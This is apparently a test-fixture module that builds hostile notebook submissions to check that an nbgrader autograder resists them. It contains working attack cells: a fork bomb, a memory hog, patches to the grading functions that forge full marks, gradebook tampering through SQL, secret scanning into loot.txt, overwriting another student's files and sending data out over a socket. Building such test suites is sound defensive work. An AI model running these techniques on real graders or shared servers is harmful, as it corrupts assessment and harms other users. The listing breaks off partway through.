"""Hostile submissions of ``hw1-pipeline``, built at test time from the sample submissions.

Each entry of ``KINDS`` is one kind of attack on the grader: a name (also the student id),
what it does, a function that writes its submission folder, and the outcome the grader must
reach, worked out from the grading rules rather than taken from a run:

- the bases: ``ada`` answers everything right (4 + 2 + 1 + 1 = 8 points), ``cam`` hands in
  the released notebook unchanged (0 points); an attack that tries to give itself points
  starts from ``cam``, one that must not cost points starts from ``ada``;
- an attack cell ``MID`` sits right after the second graded test cell, so the two test
  cells before it (4 + 2 = 6 points) have run when it starts. A limit that stops the kernel
  (the notebook's time, memory, processes, the kernel ending itself) marks every later cell
  as not run: 6 points. A cell's own time limit only fails that cell (8 points). Output past
  the output limit is cut, and the cell goes on (8 points);
- whatever a notebook does, the course outside its own submission stays as it was: other
  students' files and grades, the gradebook's definitions, the course's files.

What nbgrader 0.9.6 itself does with edited cells and metadata (found by running the grader
on each of these, see the ``why`` of each kind): a locked or test cell whose source or
``locked`` flag was changed is put back from the gradebook (``OverwriteCells``); changed
``points`` and ``checksum`` are put back too; a deleted test cell (or one stripped of its
nbgrader metadata) is not added back (``add_missing_cells`` is off): its grade has no score
and waits for a manual grade; a test cell moved above its answer just runs there; a changed
``grade_id``, a ``grade`` flag on a solution cell and a copied test cell make nbgrader refuse
the notebook (``MissingEntry``, "the nbgrader metadata may be corrupted", "old version of
the nbgrader metadata format").

Attack code keeps the test machine safe even if a limit fails: at most 3 GB of memory, 1000
forks, 100 MB of output, and every process it starts ends by itself within minutes. Every
such process names itself (``Context.process_name``) or carries ``Context.marker`` in its
command line, so that ``leftover_processes`` finds the ones the grader failed to stop.
"""

from __future__ import annotations

import copy
import json
import os
import re
import secrets
import shutil
import socket
import sqlite3
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from textwrap import dedent

import nbformat

REPO = Path(__file__).resolve().parents[1]
SAMPLES = REPO / "tests" / "fixtures" / "submissions"
ASSIGNMENT = "hw1-pipeline"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
ANSWERS = "encoder-kit-answers.json"
# points of each graded test cell of hw1-pipeline, in notebook order
POINTS = {
    "hw1-order-encoder-steps": 4.0,
    "hw1-choice-two-stages": 2.0,
    "hw1-numeric-special-tokens": 1.0,
    "hw1-choice-sentence-vector": 1.0,
}
FULL, BLANK = 8.0, 0.0  # ada, cam
BEFORE_MID = 4.0 + 2.0  # the test cells that run before an attack placed at MID
VICTIM = "vic"  # a copy of ada with a secret file: the target of reads and writes
CANARY_STUDENT = "zz-canary"  # a gradebook row holding a secret
CANARY_PATTERN = r"CANARY-[0-9a-f]{16}"
SECRET_FILE = "secret.txt"
COURSE_SECRET_FILE = "instructor-notes.txt"
MARKER = "marker"  # Expected.processes for processes found by their command line


@dataclass(frozen=True)
class Context:
    """What the builders need: the course, this run's markers, secrets and listener."""

    root: Path
    run: str = field(default_factory=lambda: secrets.token_hex(6))
    canaries: dict[str, str] = field(default_factory=dict)  # "victim"/"gradebook"/"course"
    port: int = 0  # a TCP listener on 127.0.0.1 that no notebook may reach

    @property
    def marker(self) -> str:
        """Put in the command line of every process an attack starts."""
        return f"ekh-marker-{self.run}"

    def process_name(self, tag: str) -> str:
        """The name (``/proc/PID/comm``, 15 bytes) of a forked process of this run."""
        return f"ekh{self.run[:6]}{tag}"[:15]


@dataclass(frozen=True)
class Expected:
    """The outcome one hostile submission must get."""

    score: float | None  # the exact total (None: not graded)
    graded: bool = True  # False: reported as failed, with a reason
    note: str | None = None  # a regex (case-insensitive) the notes or the reason must match
    manual: tuple[str, ...] = ()  # grade ids left for a manual grade (no auto score)
    secrets: tuple[str, ...] = ()  # keys of Context.canaries that must not reach its files
    processes: str | None = None  # the tag its processes carry (see Leftover.of)
    untouched: tuple[str, ...] = ()  # course paths (prefixes) its writes must not change
    gradebook_clean: bool = False  # no manual score, extra credit or renamed student
    nothing_planted: bool = False  # no file named "pwned" anywhere in the course
    max_notebook_bytes: int | None = None  # its autograded notebook stays this small
    no_connection: bool = False  # the listener must not hear from it


@dataclass(frozen=True)
class Hostile:
    """One kind of hostile submission."""

    name: str
    description: str
    build: Callable[[Path, Context], None]  # writes the submission folder
    expected: Expected
    why: str


# -- notebooks ---------------------------------------------------------------------------
def _base(base: str, folder: Path) -> nbformat.NotebookNode:
    """Copy the sample ``base``'s files into ``folder``; its notebook, to edit."""
    shutil.copytree(SAMPLES / ASSIGNMENT / base, folder, dirs_exist_ok=True)
    return nbformat.read(folder / NOTEBOOK, as_version=4)


def _save(nb: nbformat.NotebookNode, folder: Path) -> None:
    nbformat.write(nb, folder / NOTEBOOK)


def _index(nb: nbformat.NotebookNode, grade_id: str) -> int:
    for index, cell in enumerate(nb.cells):
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            return index
    raise KeyError(grade_id)


def _insert(nb: nbformat.NotebookNode, index: int, source: str) -> None:
    cell = nbformat.v4.new_code_cell(dedent(source).strip() + "\n")
    cell["id"] = f"hostile-{index}"
    nb.cells.insert(index, cell)


SETUP = "after-setup"  # right after the locked setup cell (before any answer)
MID = "after-q2-test"  # right after the second graded test cell: 6 points already run


def _position(nb: nbformat.NotebookNode, where: str) -> int:
    if where == SETUP:
        return _index(nb, "setup") + 1
    if where == MID:
        return _index(nb, "test-hw1-choice-two-stages") + 1
    raise ValueError(f"where must be SETUP or MID, not {where!r}")


def with_cell(base: str, where: str, source: Callable[[Context], str]) -> Callable[
        [Path, Context], None]:
    """A builder: sample ``base`` with one code cell (``source(context)``) at ``where``."""

    def build(folder: Path, context: Context) -> None:
        nb = _base(base, folder)
        _insert(nb, _position(nb, where), source(context))
        _save(nb, folder)

    return build


def edited(base: str, edit: Callable[[nbformat.NotebookNode, Context], None]) -> Callable[
        [Path, Context], None]:
    """A builder: sample ``base`` with its notebook changed by ``edit``."""

    def build(folder: Path, context: Context) -> None:
        nb = _base(base, folder)
        edit(nb, context)
        _save(nb, folder)

    return build


def _meta(nb: nbformat.NotebookNode, grade_id: str) -> dict:
    return nb.cells[_index(nb, grade_id)].metadata.nbgrader


# -- attack code (each a function of the context: the source of one cell) ---------------
def _name_me(context: Context, tag: str) -> str:
    """Source that names the current process (so leftover_processes can find it)."""
    name = context.process_name(tag).encode()
    return f"__import__('ctypes').CDLL(None).prctl(15, {name!r}, 0, 0, 0)"


def _plain_loop(context: Context) -> str:
    return "while True:\n    pass\n"


def _swallowing_loop(context: Context) -> str:
    return """
        import time
        while True:  # ignores every exception, the cell's time limit included
            try:
                time.sleep(0.1)
            except BaseException:
                pass
        """


def _memory_hog(context: Context) -> str:
    return """
        import time
        blocks = []
        for _ in range(30):  # guard: 3 GB at most, should the memory limit fail
            blocks.append(b"\\x01" * (100 * 2**20))  # 100 MB, written: resident memory
            time.sleep(0.05)
        while True:  # and hold it
            time.sleep(1)
        """


def _fork_bomb(context: Context) -> str:
    return f"""
        import os, time
        forks = 0
        while forks < 1000:  # guard: a bounded bomb, should the process limit fail
            if os.fork() == 0:  # a child: name itself, sleep, end (never runs the loop)
                try:
                    {_name_me(context, "fork")}
                    time.sleep(180)
                finally:
                    os._exit(0)
            forks += 1
        """


def _stdout_flood(context: Context) -> str:
    return """
        chunk = "x" * 2**20
        for _ in range(100):  # 100 MB through print
            print(chunk)
        """


def _fd_flood(context: Context) -> str:
    return """
        import os
        chunk = b"y" * 2**20
        for _ in range(50):  # 50 MB to each of fd 1 and fd 2, past sys.stdout/stderr
            os.write(1, chunk)
            os.write(2, chunk)
        """


def _stderr_thread(context: Context) -> str:
    return f"""
        import os, sys, threading, time

        def noise():  # keeps writing to stderr while the test cells run
            {_name_me(context, "thr")}
            end = time.time() + 30
            while time.time() < end:
                print("warning: noise from a thread", file=sys.stderr)
                os.write(2, b"noise on fd 2\\n")
                time.sleep(0.05)

        threading.Thread(target=noise, daemon=True).start()
        print("UserWarning: something on stderr", file=sys.stderr)
        """


def _stderr_everywhere(folder: Path, context: Context) -> None:
    nb = _base("ada", folder)
    for grade_id in ("answer-" + q for q in POINTS):
        cell = nb.cells[_index(nb, grade_id)]
        cell.source = "import sys\nprint('noise', file=sys.stderr)\n" + cell.source
    _insert(nb, _position(nb, SETUP), _stderr_thread(context))
    _save(nb, folder)


def _sys_exit(context: Context) -> str:
    return "import sys\nsys.exit('bye')\n"


def _os_exit(context: Context) -> str:
    return "import os\nos._exit(1)\n"


def _kill_self(context: Context) -> str:
    return "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"


def _sleepers(context: Context) -> str:
    return f"""
        import os, subprocess, sys
        sleep = [sys.executable, "-c", "import time; time.sleep(600)", {context.marker!r}]
        subprocess.Popen(sleep)  # a child in the kernel's session
        subprocess.Popen(sleep, start_new_session=True)  # one in a session of its own
        middle = os.fork()
        if middle == 0:  # a daemon: double fork, new session, exec
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, sleep)
            os._exit(0)
        os.waitpid(middle, 0)
        """


_SAVE_Z = f"""
    from encoder_kit.widgets.answers import save_answer
    POINTS = {POINTS!r}
    for question_id in POINTS:  # something to grade: "z" is no right answer anywhere
        save_answer(question_id, "z", kind="choice")
    """


def _patch_grade_cell(context: Context) -> str:
    return _SAVE_Z + """
    import autograder.course as course
    import autograder.course.student as student
    import autograder.course.testcell as testcell

    def grade_cell(question_id, *args, **kwargs):
        return POINTS[question_id]

    def check_answered(question_id):
        print("answered")

    course.grade_cell = testcell.grade_cell = grade_cell
    course.check_answered = student.check_answered = check_answered
    """


def _patch_autograder(context: Context) -> str:
    return _SAVE_Z + """
    import importlib
    import autograder
    from autograder import Result

    grading = importlib.import_module("autograder.grade")

    def full_marks(question, answer=None, variant=None, *args, **kwargs):
        return Result(score=1.0, max_points=question.points, feedback="Correct.")

    def check(question_id, answer=None, **kwargs):
        return POINTS[question_id]

    autograder.check = grading.check = check
    autograder.grade = grading.grade = full_marks
    for kind in list(grading.GRADERS):  # a dict: data, not a function
        grading.GRADERS[kind] = full_marks
    """


def _patch_find_question(context: Context) -> str:
    return _SAVE_Z + """
    import encoder_kit.questions as questions
    import encoder_kit.questions.loader as loader

    original = questions.find_question
    template = original("hw1-choice-two-stages")

    def find_question(question_id, *args, **kwargs):
        if question_id not in POINTS:
            return original(question_id, *args, **kwargs)
        option = template.options[0].model_copy(update={"id": "z", "correct": True})
        return template.model_copy(update={"id": question_id, "options": [option],
                                           "points": POINTS[question_id]})

    questions.find_question = loader.find_question = find_question
    """


def _patch_builtins(context: Context) -> str:
    return _SAVE_Z + """
    import builtins, types

    real_import = builtins.__import__
    fake = types.ModuleType("autograder.course")
    fake.grade_cell = lambda question_id, *args, **kwargs: POINTS[question_id]

    def sneaky_import(name, globals=None, locals=None, fromlist=(), level=0):
        if name == "autograder.course" and fromlist and "grade_cell" in fromlist:
            return fake
        return real_import(name, globals, locals, fromlist, level)

    builtins.__import__ = sneaky_import
    """


def _patch_sys_modules(context: Context) -> str:
    return _SAVE_Z + """
    import sys, types

    fake = types.ModuleType("autograder.course")
    fake.__path__ = []
    fake.grade_cell = lambda question_id, *args, **kwargs: POINTS[question_id]
    fake.check_answered = lambda question_id: None
    sys.modules["autograder.course"] = fake
    """


def _patch_ipython(context: Context) -> str:
    return _SAVE_Z + """
    import re

    def rewrite(lines):  # runs on every later cell's source, test cells included
        found = re.search(r'grade_cell\\("([^"]+)"\\)', "".join(lines))
        return [repr(POINTS[found.group(1)]) + "\\n"] if found else lines

    get_ipython().input_transformers_post.append(rewrite)
    """


def _scanner(context: Context, targets: str) -> str:
    """Source that reads ``targets`` (files and folders, an expression) and prints every
    secret it finds, also into loot.txt beside the notebook."""
    return f"""
        import glob, os, re
        from pathlib import Path

        ROOT = Path({str(context.root)!r})  # known: a shared hub's course path
        HINTS = [Path(p) for name in ("ENCODER_KIT_HIDDEN_DATA", "ENCODER_KIT_QUESTION_PATH")
                 for p in os.environ.get(name, "").split(os.pathsep) if p]
        PATTERN = re.compile(rb"{CANARY_PATTERN}")
        found, seen = set(), [0]

        def scan(path):
            try:
                if path.is_file() and path.stat().st_size < 50 * 2**20:
                    found.update(m.decode() for m in PATTERN.findall(path.read_bytes()))
            except OSError:
                pass

        def walk(top):
            for folder, _, files in os.walk(top):
                for name in files:
                    seen[0] += 1
                    if seen[0] > 20000:
                        return
                    scan(Path(folder) / name)

        for target in {targets}:
            target = Path(target)
            walk(target) if target.is_dir() else scan(target)
        print("found:", sorted(found))
        Path("loot.txt").write_text("\\n".join(sorted(found)))
        """


def _read_other_students(context: Context) -> str:
    return _scanner(context, "[ROOT / 'submitted', ROOT / 'autograded', "
                             "*Path.cwd().parents[:5], *glob.glob('/tmp/encoder-kit-*')]")


def _read_gradebook(context: Context) -> str:
    return _scanner(context, "[ROOT / 'gradebook.db', Path('../../../gradebook.db'), "
                             "*[h.parent / 'gradebook.db' for h in HINTS], "
                             "*glob.glob('/tmp/encoder-kit-grade-*/*.db'), "
                             "*glob.glob('/tmp/encoder-kit-grade-*/*/course/gradebook.db')]")


def _read_course(context: Context) -> str:
    return _scanner(context, "[ROOT, *[h.parent for h in HINTS]]")


def _read_hidden(context: Context) -> str:
    return """
        import os
        from pathlib import Path

        for name in ("ENCODER_KIT_HIDDEN_DATA", "ENCODER_KIT_QUESTION_PATH"):
            for folder in filter(None, os.environ.get(name, "").split(os.pathsep)):
                for path in sorted(Path(folder).glob("*"))[:20]:
                    try:
                        print(path, path.read_text()[:200])
                    except OSError as error:
                        print(path, "not readable:", error)
        """


def _tamper_gradebook(context: Context) -> str:
    return f"""
        import glob, os, sqlite3, sys, time
        from pathlib import Path

        ROOT = Path({str(context.root)!r})
        ME = os.environ.get("ENCODER_KIT_STUDENT", "write-gradebook")
        HINTS = [Path(p) for name in ("ENCODER_KIT_HIDDEN_DATA", "ENCODER_KIT_QUESTION_PATH")
                 for p in os.environ.get(name, "").split(os.pathsep) if p]
        TARGETS = [ROOT / "gradebook.db", Path("../../../gradebook.db").resolve(),
                   *[h.parent / "gradebook.db" for h in HINTS],
                   *map(Path, glob.glob("/tmp/encoder-kit-grade-*/*.db")),
                   *map(Path, glob.glob("/tmp/encoder-kit-grade-*/*/course/gradebook.db"))]
        TARGETS = [path for path in TARGETS if path.is_file()]  # sqlite would create the rest
        OF = ("SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
              "ON sn.assignment_id = sa.id WHERE sa.student_id = ?")

        def tamper(path, say=True):
            try:
                con = sqlite3.connect(str(path), timeout=0.5)
                con.execute(f"UPDATE grade SET extra_credit = 8, manual_score = "
                            f"(SELECT max_score FROM grade_cells WHERE id = grade.cell_id) "
                            f"WHERE notebook_id IN ({{OF}})", (ME,))
                con.execute(f"UPDATE grade SET manual_score = 0 WHERE notebook_id IN ({{OF}})",
                            ({VICTIM!r},))
                con.execute("UPDATE student SET first_name = 'pwned' WHERE id = ?",
                            ({VICTIM!r},))
                con.commit()
                con.close()
                if say:
                    print("changed", path)
            except Exception as error:
                if say:
                    print("not changed:", path, type(error).__name__, error)

        for path in TARGETS:
            tamper(path)
        middle = os.fork()
        if middle == 0:  # a daemon that keeps at it while the batch goes on
            os.setsid()
            if os.fork() == 0:
                try:
                    {_name_me(context, "gbw")}
                    end = time.time() + 60
                    while time.time() < end:
                        for path in TARGETS:
                            tamper(path, say=False)
                        time.sleep(0.2)
                finally:
                    os._exit(0)
            os._exit(0)
        os.waitpid(middle, 0)
        """


def _write_course_files(context: Context) -> str:
    return f"""
        import os
        from pathlib import Path

        ROOT = Path({str(context.root)!r})
        HINTS = [Path(p) for name in ("ENCODER_KIT_HIDDEN_DATA", "ENCODER_KIT_QUESTION_PATH")
                 for p in os.environ.get(name, "").split(os.pathsep) if p]
        WRITES = [ROOT / "PWNED.txt", ROOT / "source" / "{ASSIGNMENT}" / "pwned.txt",
                  Path("../../../source/{ASSIGNMENT}/pwned-relative.txt"),
                  Path("../../../PWNED-relative.txt"),
                  ROOT / "autograded" / {VICTIM!r} / "{ASSIGNMENT}" / "pwned.txt",
                  *[h / "pwned.txt" for h in HINTS]]
        for path in WRITES:
            try:
                path.write_text("pwned")
                print("wrote", path)
            except OSError as error:
                print("could not write", path, error)
        for path in (ROOT / "nbgrader_config.py", ROOT / "release" / "{ASSIGNMENT}" / "{NOTEBOOK}"):
            try:
                with open(path, "a") as handle:
                    handle.write("\\n# pwned\\n")
                print("appended to", path)
            except OSError as error:
                print("could not append to", path, error)
        """


def _write_other_submission(context: Context) -> str:
    return f"""
        import shutil
        from pathlib import Path

        ROOT = Path({str(context.root)!r})
        for victim in (ROOT / "submitted" / {VICTIM!r} / "{ASSIGNMENT}",
                       Path("../../../submitted/{VICTIM}/{ASSIGNMENT}")):
            try:
                shutil.copy("{NOTEBOOK}", victim / "{NOTEBOOK}")  # my blank notebook
                (victim / "{ANSWERS}").write_text("{{}}")
                print("overwrote", victim)
            except OSError as error:
                print("could not write", victim, error)
        """


def _network(context: Context) -> str:
    return f"""
        import socket
        for address in (("127.0.0.1", {context.port}), ("localhost", {context.port})):
            try:
                with socket.create_connection(address, timeout=2) as connection:
                    connection.sendall(b"exfiltrated by a notebook")
                print("sent to", address)
            except OSError as error:
                print("no connection to", address, error)
        try:
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53))
            print("sent a datagram out")
        except OSError as error:
            print("no datagram:", error)
        """


# -- edits of cells and metadata ---------------------------------------------------------
def _edit_test_cells(nb: nbformat.NotebookNode, context: Context) -> None:
    for question, points in POINTS.items():
        cell = nb.cells[_index(nb, f"test-{question}")]
        cell.metadata.nbgrader["locked"] = False
        cell.source = repr(points)  # the test now just returns its full points


def _edit_setup_cell(nb: nbformat.NotebookNode, context: Context) -> None:
    cell = nb.cells[_index(nb, "setup")]
    cell.source = cell.source + "\n" + dedent(_patch_grade_cell(context))


def _delete_test_cell(nb: nbformat.NotebookNode, context: Context) -> None:
    del nb.cells[_index(nb, "test-hw1-order-encoder-steps")]


def _strip_test_metadata(nb: nbformat.NotebookNode, context: Context) -> None:
    cell = nb.cells[_index(nb, "test-hw1-order-encoder-steps")]
    del cell.metadata["nbgrader"]
    cell.source = "print('tested')"


def _move_test_cell(nb: nbformat.NotebookNode, context: Context) -> None:
    cell = nb.cells.pop(_index(nb, "test-hw1-order-encoder-steps"))
    nb.cells.insert(_index(nb, "answer-hw1-order-encoder-steps"), cell)


def _points_100(nb: nbformat.NotebookNode, context: Context) -> None:
    for question in POINTS:
        _meta(nb, f"test-{question}")["points"] = 100.0


def _grade_flag(nb: nbformat.NotebookNode, context: Context) -> None:
    _meta(nb, "answer-hw1-order-encoder-steps").update(grade=True, points=100.0)


def _grade_id(nb: nbformat.NotebookNode, context: Context) -> None:
    _meta(nb, "test-hw1-order-encoder-steps")["grade_id"] = "test-hw1-mine"


def _checksums(nb: nbformat.NotebookNode, context: Context) -> None:
    for cell in nb.cells:
        meta = cell.get("metadata", {}).get("nbgrader")
        if meta and "checksum" in meta:
            meta["checksum"] = "0" * 32


def _duplicate_test_cell(nb: nbformat.NotebookNode, context: Context) -> None:
    index = _index(nb, "test-hw1-order-encoder-steps")
    twin = copy.deepcopy(nb.cells[index])
    twin["id"] = "hostile-twin"
    twin.source = "4.0"
    nb.cells.insert(index, twin)


# -- files beside the notebook -----------------------------------------------------------
def _junk_answers(folder: Path, context: Context) -> None:
    _base("cam", folder)
    forged = {"kind": "hacked", "variant": {"forged": True}, "attempts": -3, "score": 100,
              "saved_at": "2999-01-01T00:00:00Z"}
    answers = {
        "hw1-order-encoder-steps": {"answer": {"pieces": 1, "head": 7}},
        "hw1-choice-two-stages": {"answer": 12345},
        "hw1-numeric-special-tokens": {"answer": float("nan")},
        "hw1-choice-sentence-vector": {"answer": ["cls"] * 1000},
        "hw1-unknown": {"answer": 1e308},
    }
    data = {"format": "encoder-kit-answers", "version": 99, "grade": "A+", "answers": {
        question: {"question_id": question, **entry, **forged}
        for question, entry in answers.items()}}
    data["answers"]["hw1-numeric-special-tokens-inf"] = {"answer": float("inf")}
    (folder / ANSWERS).write_text(json.dumps(data))


def _deep_answers(folder: Path, context: Context) -> None:
    _base("cam", folder)
    depth = 100_000  # past Python's recursion limit: json.loads raises RecursionError
    entry = '{"question_id": "hw1-choice-two-stages", "answer": ' + "[" * depth + "]" * depth
    (folder / ANSWERS).write_text('{"format": "encoder-kit-answers", "version": 1, '
                                  '"answers": {"hw1-choice-two-stages": ' + entry + "}}}")


def _symlinks(folder: Path, context: Context) -> None:
    _base("cam", folder)
    submitted = context.root / "submitted"
    (folder / ANSWERS).symlink_to(submitted / "fay" / ASSIGNMENT / ANSWERS)  # 6 points there
    (folder / "notes.txt").symlink_to(submitted / VICTIM / ASSIGNMENT / SECRET_FILE)
    (folder / "gradebook.db").symlink_to(context.root / "gradebook.db")


def _invalid_json(folder: Path, context: Context) -> None:
    _base("ada", folder)
    text = (folder / NOTEBOOK).read_text()
    (folder / NOTEBOOK).write_text(text[: len(text) // 2])


def _nbformat_3(folder: Path, context: Context) -> None:
    nb = _base("ada", folder)
    (folder / NOTEBOOK).write_text(nbformat.writes(nbformat.convert(nb, 3), version=3))


def _other_kernel(nb: nbformat.NotebookNode, context: Context) -> None:
    nb.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    nb.metadata["language_info"] = {"name": "R", "version": "4.3.0"}


# -- the kinds ---------------------------------------------------------------------------
STOPPED = BEFORE_MID  # 6: the kernel stopped at MID
# what write-course-files aims at (relative to the course; new files there count too)
COURSE_FILES = ("nbgrader_config.py", "source", "release", "questions", "code-questions",
                "hidden", "PWNED.txt", "PWNED-relative.txt")


def _kinds() -> list[Hostile]:
    mid, setup = MID, SETUP
    return [
        # time
        Hostile("loop-plain", "ada + `while True: pass` at MID",
                with_cell("ada", mid, _plain_loop),
                Expected(FULL, note=r"cell limit|time limit"),
                "the cell's time limit stops that cell only; Q3 and Q4 still run: 8"),
        Hostile("loop-swallow", "ada + a loop that swallows BaseException (the cell's time "
                "limit included) at MID", with_cell("ada", mid, _swallowing_loop),
                Expected(STOPPED, note=r"could not be interrupted|time limit|ran past"),
                "the cell cannot be interrupted, so the kernel is stopped: Q3, Q4 not run: 6"),
        # memory, processes, output
        Hostile("memory-hog", "ada + 100 MB blocks appended forever (3 GB guard) at MID",
                with_cell("ada", mid, _memory_hog), Expected(STOPPED, note=r"memory"),
                "past the memory limit the kernel is stopped: Q3, Q4 not run: 6"),
        Hostile("fork-bomb", "ada + `while True: os.fork()` (1000 guard; children sleep 180 s) "
                "at MID", with_cell("ada", mid, _fork_bomb),
                Expected(STOPPED, note=r"process", processes="fork"),
                "past the process limit the kernel and its children are stopped: 6"),
        Hostile("stdout-flood", "ada + 100 MB printed at MID", with_cell("ada", mid, _stdout_flood),
                Expected(FULL, max_notebook_bytes=5_000_000),
                "output past the limit is cut and the cell goes on (the output limit cuts, it "
                "does not stop the kernel): 8, and the autograded notebook stays small"),
        Hostile("fd-flood", "ada + 50 MB each written straight to fd 1 and fd 2 at MID",
                with_cell("ada", mid, _fd_flood), Expected(FULL, max_notebook_bytes=5_000_000),
                "bytes past sys.stdout are no cell output (or cut); an ordinary cell: 8"),
        Hostile("stderr-noise", "ada + stderr in every answer cell and a thread writing to "
                "stderr and fd 2 while the test cells run", _stderr_everywhere,
                Expected(FULL),
                "stderr in a test cell is kept off the grade (KeepStderrOffTheGrade): 8"),
        # the kernel ending itself
        Hostile("sys-exit", "ada + `sys.exit()` at MID", with_cell("ada", mid, _sys_exit),
                Expected(FULL),
                "IPython turns SystemExit into that cell's error; the kernel goes on: 8"),
        Hostile("os-exit", "ada + `os._exit(1)` at MID", with_cell("ada", mid, _os_exit),
                Expected(STOPPED, note=r"exit|ended|stopped"),
                "the kernel process is gone: Q3, Q4 not run: 6"),
        Hostile("kill-self", "ada + `os.kill(os.getpid(), 9)` at MID",
                with_cell("ada", mid, _kill_self),
                Expected(STOPPED, note=r"signal 9|killed|stopped"),
                "the kernel process is gone: Q3, Q4 not run: 6"),
        Hostile("sleepers", "ada + processes that sleep 600 s (a child, one in its own "
                "session, a double-forked daemon) at MID", with_cell("ada", mid, _sleepers),
                Expected(FULL, processes=MARKER),
                "starting processes is allowed; all must be gone after the batch: 8"),
        # the grading helpers
        Hostile("patch-grade-cell", "cam + saved 'z' answers; autograder.course.grade_cell "
                "(and testcell's, check_answered) replaced", with_cell("cam", setup,
                                                                       _patch_grade_cell),
                Expected(BLANK, note=r"put back|restored|replaced"),
                "helpers are put back before each test cell: 'z' is wrong everywhere: 0"),
        Hostile("patch-autograder", "cam + 'z' answers; autograder.check, autograder.grade "
                "and the GRADERS table replaced", with_cell("cam", setup, _patch_autograder),
                Expected(BLANK, note=r"put back|restored|replaced"),
                "the graders are put back (GRADERS is a dict: its entries too): 0"),
        Hostile("patch-find-question", "cam + 'z' answers; encoder_kit.questions.find_question "
                "returns questions whose right answer is 'z'",
                with_cell("cam", setup, _patch_find_question),
                Expected(BLANK),
                "the question keys never reach the kernel (scores are computed in the grader's "
                "process), so the patch's own call to find_question fails: 0, nothing to put "
                "back"),
        Hostile("patch-builtins", "cam + 'z' answers; builtins.__import__ hands the test cells "
                "a fake autograder.course", with_cell("cam", setup, _patch_builtins),
                Expected(BLANK, note=r"put back|restored|replaced"),
                "builtins are put back before the test cells: 0"),
        Hostile("patch-sys-modules", "cam + 'z' answers; sys.modules['autograder.course'] "
                "replaced by a fake module", with_cell("cam", setup, _patch_sys_modules),
                Expected(BLANK),
                "the test cells must import the real helpers: 0"),
        Hostile("patch-ipython", "cam + 'z' answers; an IPython input transformer rewrites "
                "every test cell into its full points", with_cell("cam", setup, _patch_ipython),
                Expected(BLANK),
                "the test cells must run as written in the source: 0"),
        # cells and metadata (what nbgrader 0.9.6 does is in each `why`)
        Hostile("edit-test-cells", "cam with every test cell unlocked and replaced by its "
                "points", edited("cam", _edit_test_cells),
                Expected(BLANK, note=r"test-hw1-order-encoder-steps"),
                "nbgrader: locked flag and source put back from the gradebook (warning "
                "'Attribute checksum ... has changed'): 0; the instructor should be told"),
        Hostile("edit-setup-cell", "cam whose locked setup cell also patches grade_cell",
                edited("cam", _edit_setup_cell), Expected(BLANK, note=r"setup"),
                "nbgrader: the locked cell's source is put back, the patch never runs: 0"),
        Hostile("delete-test-cell", "ada without the test cell of question 1",
                edited("ada", _delete_test_cell),
                Expected(FULL - 4.0, manual=("test-hw1-order-encoder-steps",)),
                "nbgrader: the cell is not added back (add_missing_cells off); its grade has "
                "no score and needs a manual grade: 2 + 1 + 1 = 4"),
        Hostile("strip-test-metadata", "ada whose test cell of question 1 lost its nbgrader "
                "metadata (and prints instead)", edited("ada", _strip_test_metadata),
                Expected(FULL - 4.0, manual=("test-hw1-order-encoder-steps",)),
                "nbgrader: a plain cell now, so the grade cell is missing, as if deleted: 4"),
        Hostile("move-test-cell", "ada with the test cell of question 1 moved above its answer",
                edited("ada", _move_test_cell), Expected(FULL - 4.0),
                "nbgrader: cells run in the submitted order; the test finds no answer yet "
                "(AssertionError): 0 + 2 + 1 + 1 = 4"),
        Hostile("meta-points", "ada with points 100 on every test cell",
                edited("ada", _points_100),
                Expected(FULL, note=r"test-hw1-order-encoder-steps"),
                "nbgrader: points put back from the gradebook (warning 'Attribute points ... "
                "has changed'): 8; the instructor should be told"),
        Hostile("meta-grade-flag", "ada with `grade: true, points: 100` on the answer cell of "
                "question 1", edited("ada", _grade_flag),
                Expected(None, graded=False, note=r"metadata|grade cell"),
                "nbgrader refuses the notebook (MissingEntry: no such grade cell "
                "answer-hw1-order-encoder-steps): not graded, with the reason"),
        Hostile("meta-grade-id", "ada with the grade_id of question 1's test cell changed",
                edited("ada", _grade_id),
                Expected(None, graded=False, note=r"metadata|grade cell|grade_id"),
                "nbgrader drops the unknown grade_id, then refuses the notebook ('the nbgrader "
                "metadata may be corrupted'): not graded, with the reason"),
        Hostile("meta-checksum", "ada with every checksum set to zeros",
                edited("ada", _checksums), Expected(FULL),
                "nbgrader always writes the gradebook's checksums back: 8"),
        Hostile("duplicate-test-cell", "cam with a copy of question 1's test cell (source "
                "'4.0', same grade_id) above the real one", edited("cam", _duplicate_test_cell),
                Expected(None, graded=False, note=r"metadata|grade_id|multiple"),
                "nbgrader: 'Cell with id ... exists multiple times', then refuses the notebook "
                "('old version of the nbgrader metadata format'): not graded, with the reason"),
        # the widgets' answers file
        Hostile("answers-junk", "cam + an answers file with wrong types, NaN, inf, forged "
                "scores, variants and attempts", _junk_answers, Expected(BLANK),
                "saved answers are graded again; none is right, forged scores are ignored: 0"),
        Hostile("answers-deep", "cam + an answers file nested 100000 deep (RecursionError)",
                _deep_answers, Expected(BLANK),
                "an unreadable answers file is a zero, never a crash: 0"),
        Hostile("answers-symlink", "cam whose answers file is a symlink to fay's (6 points); "
                "links to the victim's secret and the gradebook",
                _symlinks, Expected(BLANK, secrets=("victim", "gradebook")),
                "links out of the submission are not followed: no answers, so 0"),
        # reading the course
        Hostile("read-other-students", "ada + a cell that searches other students' folders "
                "(course, scratch space) for secrets", with_cell("ada", mid,
                                                                 _read_other_students),
                Expected(FULL, secrets=("victim",)), "reading does not change a grade: 8; the "
                "other students' folders are hidden from the kernel"),
        Hostile("read-gradebook", "ada + a cell that reads every gradebook it can find",
                with_cell("ada", mid, _read_gradebook), Expected(FULL, secrets=("gradebook",)),
                "8; the gradebook (and its copies) are hidden from the kernel"),
        Hostile("read-course", "ada + a cell that reads the course folder",
                with_cell("ada", mid, _read_course), Expected(FULL, secrets=("course",)),
                "8; the course folder is hidden from the kernel"),
        Hostile("read-hidden-env", "ada + a cell that lists and reads the folders named in "
                "os.environ (hidden data, questions)", with_cell("ada", mid, _read_hidden),
